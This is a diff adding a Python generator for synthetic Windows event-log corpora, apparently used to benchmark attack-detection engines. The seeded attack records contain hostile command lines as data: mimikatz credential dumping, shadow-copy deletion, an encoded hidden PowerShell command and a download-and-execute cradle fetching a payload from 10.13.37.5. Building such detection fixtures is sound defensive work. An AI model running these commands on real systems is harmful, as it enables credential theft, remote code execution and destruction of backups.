@@ -0,0 +1,141 @@
+import os
+import json
+import random
+from datetime import datetime, timezone, timedelta
+
+from benchmarks.evtx_writer import write_evtx, event_template
+
+# Bumped whenever the generated events change, so cached corpora are rebuilt
+CORPUS_VERSION = 1
+CORPUS_SIZES = {"small": 10_000, "medium": 100_000, "large": 1_000_000}
+HOSTS = ("DC01.corp.local", "WS01.corp.local", "WS02.corp.local", "SRV01.corp.local")
+USERS = ("alice", "bob", "carol", "svc_backup", "Administrator")
+START = datetime(2024, 5, 1, 8, 0, tzinfo=timezone.utc)
+# Share of each channel's records, and about one record in ATTACK_RATE is one of the suspicious ones
+CHANNEL_WEIGHTS = {"Security": 0.55, "Sysmon": 0.3, "PowerShell": 0.1, "System": 0.05}
+ATTACK_RATE = 500
+
+PROCESSES = (
+    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p"),
+    (r"C:\Windows\explorer.exe", "explorer.exe"),
+    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"),
+    (r"C:\Windows\System32\cmd.exe", "cmd.exe /c dir C:\\Users"),
+    (r"C:\Windows\System32\conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
+)
+ATTACK_PROCESSES = (
+    (r"C:\Users\Public\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"),
+    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
+    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
+    (r"C:\Windows\System32\whoami.exe", "whoami /all"),
+)
+SCRIPTS = (
+    "Get-ChildItem -Path C:\\Users -Recurse | Measure-Object",
+    "Import-Module ActiveDirectory; Get-ADUser -Filter *",
+)
+ATTACK_SCRIPTS = (
+    "IEX (New-Object Net.WebClient).DownloadString('http://10.13.37.5/payload.ps1')",
+    "Invoke-Mimikatz -DumpCreds",
+)
+
+def _security(rng: random.Random, host: str, attack: bool) -> tuple[int, dict]:
+    user = rng.choice(USERS)
+    if attack and rng.random() < 0.5:
+        return 4625, {"TargetUserName": rng.choice(USERS), "TargetDomainName": "CORP", "Status": "0xc000006d",
+                      "LogonType": "3", "IpAddress": "10.13.37.5", "WorkstationName": "KALI"}
+    roll = rng.random()
+    if attack or roll < 0.35:
+        image, command = rng.choice(ATTACK_PROCESSES if attack else PROCESSES)
+        return 4688, {"SubjectUserName": user, "SubjectDomainName": "CORP", "NewProcessName": image,
+                      "CommandLine": command, "ParentProcessName": r"C:\Windows\explorer.exe", "TokenElevationType": "%%1936"}
+    if roll < 0.75:
+        return 4624, {"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": rng.choice(("2", "3", "5", "10")),
+                      "IpAddress": f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 254)}", "WorkstationName": host.split(".")[0],
+                      "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate"}
+    if roll < 0.9:
+        return 4672, {"SubjectUserName": user, "SubjectDomainName": "CORP", "PrivilegeList": "SeDebugPrivilege SeBackupPrivilege"}
+    return 4634, {"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": "3"}
+
+def _sysmon(rng: random.Random, host: str, attack: bool) -> tuple[int, dict]:
+    user = f"CORP\\{rng.choice(USERS)}"
+    if not attack and rng.random() < 0.4:
+        return 3, {"Image": rng.choice(PROCESSES)[0], "User": user, "Protocol": "tcp",
+                   "SourceIp": f"10.0.1.{rng.randint(2, 254)}", "DestinationIp": f"52.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+                   "DestinationPort": rng.choice(("443", "80", "53"))}
+    image, command = rng.choice(ATTACK_PROCESSES if attack else PROCESSES)
+    return 1, {"UtcTime": "", "Image": image, "CommandLine": command, "User": user,
+               "ParentImage": r"C:\Windows\explorer.exe", "ParentCommandLine": "explorer.exe",
+               "Hashes": f"SHA256={rng.getrandbits(256):064X}", "IntegrityLevel": "High" if attack else "Medium"}
+
+def _powershell(rng: random.Random, host: str, attack: bool) -> tuple[int, dict]:
+    script = rng.choice(ATTACK_SCRIPTS if attack else SCRIPTS)
+    return 4104, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": script,
+                  "ScriptBlockId": f"{rng.getrandbits(128):032x}", "Path": ""}
+
+def _system(rng: random.Random, host: str, attack: bool) -> tuple[int, dict]:
+    if attack:
+        return 7045, {"ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe", "ServiceType": "user mode service",
+                      "StartType": "demand start", "AccountName": "LocalSystem"}
+    return 7036, {"param1": rng.choice(("Windows Update", "Print Spooler", "BITS")), "param2": rng.choice(("running", "stopped"))}
+
+CHANNELS = {
+    "Security": ("Security", "Microsoft-Windows-Security-Auditing", _security),
+    "Sysmon": ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", _sysmon),
+    "PowerShell": ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", _powershell),
+    "System": ("System", "Service Control Manager", _system),
+}
+
+def _events(rng: random.Random, host: str, channel_key: str, count: int, span: timedelta):
+    channel, provider, make = CHANNELS[channel_key]
+    step = span / max(count, 1)
+    for n in range(count):
+        record_id = n + 1
+        written = START + step * n + timedelta(microseconds=rng.randint(0, 999_999))
+        event_id, data = make(rng, host, rng.randrange(ATTACK_RATE) == 0)
+        if "UtcTime" in data:
+            data["UtcTime"] = written.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
+        system = {"provider": provider, "event_id": event_id, "time": written, "record_id": record_id,
+                  "channel": channel, "computer": host, "level": 4 if event_id != 4625 else 0}
+        yield record_id, written, event_template(system, data)
+
+def build_corpus(root: str, size: str | int, seed: int = 1) -> dict:
+    """
+    Write (or reuse) a reproducible case of EVTX files: one file per host and channel, about `size` records in
+    total spread over a day, with a sprinkling of attack events for the detection engines to find. The same
+    size and seed always give byte-identical files. Returns the corpus manifest.
+    """
+    records = CORPUS_SIZES[size] if isinstance(size, str) else int(size)
+    name = f"{size}-{records}-seed{seed}" if isinstance(size, str) else f"{records}-seed{seed}"
+    folder = os.path.join(root, name)
+    manifest_path = os.path.join(folder, "manifest.json")
+    if os.path.exists(manifest_path):
+        with open(manifest_path, "r") as f:
+            manifest = json.load(f)
+        if manifest.get("version") == CORPUS_VERSION and all(os.path.exists(os.path.join(folder, e["name"])) for e in manifest["files"]):
+            return manifest
+
+    os.makedirs(folder, exist_ok=True)
+    rng = random.Random(seed)
+    files = []
+    per_host = records / len(HOSTS)
+    for host in HOSTS:
+        for channel_key, weight in CHANNEL_WEIGHTS.items():
+            count = max(1, round(per_host * weight))
+            filename = f"{host.split('.')[0]}_{channel_key}.evtx"
+            path = os.path.join(folder, filename)
+            # Each file gets its own generator so adding a channel doesn't reshuffle the others
+            written = write_evtx(path, _events(random.Random(rng.getrandbits(64)), host, channel_key, count, timedelta(days=1)))
+            files.append({"name": filename, "records": written, "bytes": os.path.getsize(path)})
+
+    manifest = {
+        "version": CORPUS_VERSION,
+        "size": size,
+        "seed": seed,
+        "folder": folder,
+        "records": sum(f["records"] for f in files),
+        "bytes": sum(f["bytes"] for f in files),
+        "files": files,
+    }
+    with open(manifest_path, "w") as f:
+        json.dump(manifest, f, indent=2)
+    return manifest